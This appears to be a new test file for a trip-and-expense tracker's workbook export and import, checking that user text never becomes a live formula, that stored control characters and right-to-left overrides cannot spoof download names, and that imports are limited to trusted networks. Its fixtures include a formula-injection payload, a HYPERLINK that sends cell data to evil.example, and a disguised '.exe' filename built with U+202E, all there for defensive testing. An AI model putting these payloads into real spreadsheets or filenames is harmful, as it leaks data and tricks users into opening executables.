@@ -1,0 +1,170 @@
+"""The workbook carries user text safely (CONTRACT 8 and 11): never a live formula, formula-like text round-trips
+as text, every engineer's export works (even with rows stored before the text rule), the download name cannot be
+spoofed, and import follows the upload networks."""
+
+import io
+import re
+import zipfile
+from datetime import date, datetime
+from urllib.parse import unquote
+
+import pytest
+from openpyxl import Workbook, load_workbook
+from sqlalchemy import select, update
+
+from tests.conftest import login
+from tracker.auth.models import User
+from tracker.extensions import db
+from tracker.itinerary import services, workbook
+from tracker.itinerary.models import Expense, Trip
+from tracker.workorders.models import Customer
+
+FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?x="&A1,"点这里")', "+1+2", "-3 元", "@SUM(A1:A3)",
+                "=1+1\n第二行", "-"]
+OUTSIDE = {"REMOTE_ADDR": "8.8.8.8"}
+
+
+@pytest.fixture
+def formulaic(team):
+    """eng1's November: a trip and an expense per formula-like text, and a customer whose name starts with @."""
+    eng = team["eng1"]
+    db.session.add(Customer(name="@客户"))
+    db.session.commit()
+    for day, text in enumerate(FORMULA_LIKE, start=2):
+        services.save_trip(eng, eng, {"date": date(2026, 11, day), "depart": "09:00", "return": "10:00",
+                                      "purpose": text, "note": text, "customer": "@客户"})
+        services.save_expense(eng, eng, {"date": date(2026, 11, day), "category": "other", "amount": "1",
+                                         "note": text})
+    db.session.commit()
+    return eng
+
+
+def _texts(engineer):
+    db.session.expire_all()
+    trips = db.session.scalars(select(Trip).where(Trip.engineer_id == engineer.id).order_by(Trip.day)).all()
+    expenses = db.session.scalars(select(Expense).where(Expense.engineer_id == engineer.id)
+                                  .order_by(Expense.day)).all()
+    return ([(t.day, t.purpose, t.note, t.customer.name) for t in trips], [(e.day, e.note) for e in expenses])
+
+
+def test_formula_like_text_is_written_as_text_never_as_a_formula(api, formulaic):
+    response = api("GET", "/itineraries/eng1/2026.xlsx", "eng1")
+    assert response.status_code == 200
+    data = response.get_data()
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
+    assert not any("<f>" in sheet or "<f " in sheet for sheet in sheets)  # no formula anywhere in the file
+    book = load_workbook(io.BytesIO(data))  # formulas kept as formulas: none may appear
+    cells = [cell for row in book["11月"].iter_rows() for cell in row if isinstance(cell.value, str)]
+    for text in FORMULA_LIKE:
+        found = [cell for cell in cells if cell.value == text]
+        assert len(found) == 3, text  # purpose, note of the trip, note of the expense
+        assert all(cell.data_type == "s" for cell in found), text
+        assert all(cell.quotePrefix for cell in found if text.startswith(("=", "+", "-", "@"))), text
+    assert [cell for cell in cells if cell.value == "@客户"]
+
+
+def test_formula_like_text_round_trips_through_export_and_import(api, formulaic):
+    before = _texts(formulaic)
+    exported = api("GET", "/itineraries/eng1/2026.xlsx", "eng1").get_data()
+    response = api("POST", "/itineraries/eng1/2026.xlsx", "eng1", content_type="multipart/form-data",
+                   data={"file": (io.BytesIO(exported), "2026年张三工作行程表.xlsx")})
+    assert response.status_code == 200, response.get_data(as_text=True)
+    assert {m["month"]: m["status"] for m in response.get_json()["months"]}["2026-11"] == "replaced"
+    assert _texts(formulaic) == before
+    assert [purpose for _day, purpose, _note, _customer in before[0]] == FORMULA_LIKE
+
+
+@pytest.mark.parametrize("text", ["\tx", "\rx", "=A1", "+A1", "-A1", "@A1"])
+def test_every_text_starting_like_a_formula_is_a_quoted_text_cell(text):
+    sheet = Workbook().active
+    cell = workbook._put(sheet, 1, 0, text)
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
+    plain = workbook._put(sheet, 2, 0, "普通文字")
+    assert (plain.data_type, plain.quotePrefix) == ("s", False)
+
+
+def _legacy(engineer, **columns):
+    """Write columns straight into the table, as rows stored before the text rule could be."""
+    db.session.execute(update(User).where(User.id == engineer.id).values(**columns))
+    db.session.commit()
+
+
+def test_exports_of_every_engineer_work_even_with_text_stored_before_the_rule(api, team):
+    eng1, eng2, eng3 = team["eng1"], team["eng2"], team["eng3"]
+    services.save_trip(eng1, eng1, {"date": date(2026, 11, 2), "full_day": True, "purpose": "正常"})
+    db.session.commit()
+    # eng2 and eng3 hold what the rule now refuses: control characters and a right-to-left override
+    db.session.add_all([
+        Trip(engineer_id=eng2.id, day=date(2026, 11, 3), full_day=True, hours=7.5, purpose="bell\x07",
+             note="\x1b[31m红\x00字", created_at=datetime(2026, 11, 3)),
+        Expense(engineer_id=eng3.id, day=date(2026, 11, 4), category="meals", amount=12, note="\x85\x9b\x7f",
+                created_at=datetime(2026, 11, 4)),
+    ])
+    db.session.commit() if db.engine.dialect.name == "sqlite" else db.session.rollback()
+    if db.engine.dialect.name != "sqlite":  # PostgreSQL cannot store NUL at all: the rest still breaks a workbook
+        db.session.add(Trip(engineer_id=eng2.id, day=date(2026, 11, 3), full_day=True, hours=7.5,
+                            purpose="bell\x07", note="\x1b[31m红字", created_at=datetime(2026, 11, 3)))
+        db.session.add(Expense(engineer_id=eng3.id, day=date(2026, 11, 4), category="meals", amount=12,
+                               note="\x85\x9b\x7f", created_at=datetime(2026, 11, 4)))
+        db.session.commit()
+    _legacy(eng3, display_name="王\x07五\u202e")
+    engineers = db.session.scalars(select(User).where(User.role == "engineer").order_by(User.username)).all()
+    assert len(engineers) == 3
+    for engineer in engineers:
+        response = api("GET", f"/itineraries/{engineer.username}/2026.xlsx", "gm.wang")
+        assert response.status_code == 200, (engineer.username, response.get_data(as_text=True))
+        load_workbook(io.BytesIO(response.get_data()))  # a workbook a spreadsheet program can open
+        disposition = response.headers["Content-Disposition"]
+        name = unquote(re.search(r"filename\*=UTF-8''(.+)$", disposition).group(1))
+        assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", name), name
+    assert name == "2026年王五工作行程表.xlsx"
+
+
+def test_the_web_download_name_cannot_be_spoofed_by_a_stored_override(app, client, team):
+    _legacy(team["eng1"], display_name="张三\u202eslx.exe")
+    login(client, "eng1")
+    response = client.get("/itinerary/eng1/2026.xlsx")
+    assert response.status_code == 200
+    assert "%E2%80%AE" not in response.headers["Content-Disposition"]  # U+202E, percent-encoded
+    assert "2026%E5%B9%B4%E5%BC%A0%E4%B8%89slx.exe" in response.headers["Content-Disposition"]
+
+
+def _workbook_file(api):
+    return api("GET", "/itineraries/eng1/2026.xlsx", "eng1").get_data()
+
+
+def test_workbook_import_from_outside_the_upload_networks_is_403_on_api_and_web(app, api, client, formulaic):
+    before = _texts(formulaic)
+    data = _workbook_file(api)
+    response = api("POST", "/itineraries/eng1/2026.xlsx", "eng1", content_type="multipart/form-data",
+                   data={"file": (io.BytesIO(data), "2026年张三工作行程表.xlsx")}, environ_base=OUTSIDE)
+    assert response.status_code == 403 and response.get_json()["error"]["code"] == "forbidden"
+    login(client, "eng1")
+    response = client.post("/itinerary/eng1/2026/import", data={"file": (io.BytesIO(data),
+                                                                          "2026年张三工作行程表.xlsx")},
+                           environ_base=OUTSIDE)
+    assert response.status_code == 403
+    assert _texts(formulaic) == before
+    # from inside the networks the same upload is taken
+    response = client.post("/itinerary/eng1/2026/import", data={"file": (io.BytesIO(data),
+                                                                          "2026年张三工作行程表.xlsx")})
+    assert response.status_code == 302
+
+
+@pytest.mark.parametrize("column, char", [(workbook.COL_PURPOSE, "\x85"), (workbook.COL_NOTE, "\x7f"),
+                                          (workbook.COL_CUSTOMER, "\x9b")])
+def test_import_refuses_control_characters_in_a_cell_and_stores_nothing(api, team, column, char):
+    """DEL and C1 characters are legal in a workbook file, so one edited elsewhere can carry them."""
+    book = load_workbook(io.BytesIO(api("GET", "/itineraries/eng1/2026.xlsx", "eng1").get_data()))
+    sheet = book["11月"]
+    sheet.cell(row=3, column=workbook.COL_FULL_DAY + 1, value="是")
+    sheet.cell(row=3, column=column + 1, value=f"响{char}铃")
+    out = io.BytesIO()
+    book.save(out)
+    response = api("POST", "/itineraries/eng1/2026.xlsx", "eng1", content_type="multipart/form-data",
+                   data={"file": (io.BytesIO(out.getvalue()), "2026年张三工作行程表.xlsx")})
+    assert response.status_code == 422, response.get_data(as_text=True)
+    error = response.get_json()["error"]
+    assert f"U+{ord(char):04X}" in error["message"] and "第 3 行" in error["message"], error
+    assert db.session.scalar(select(Trip.id)) is None
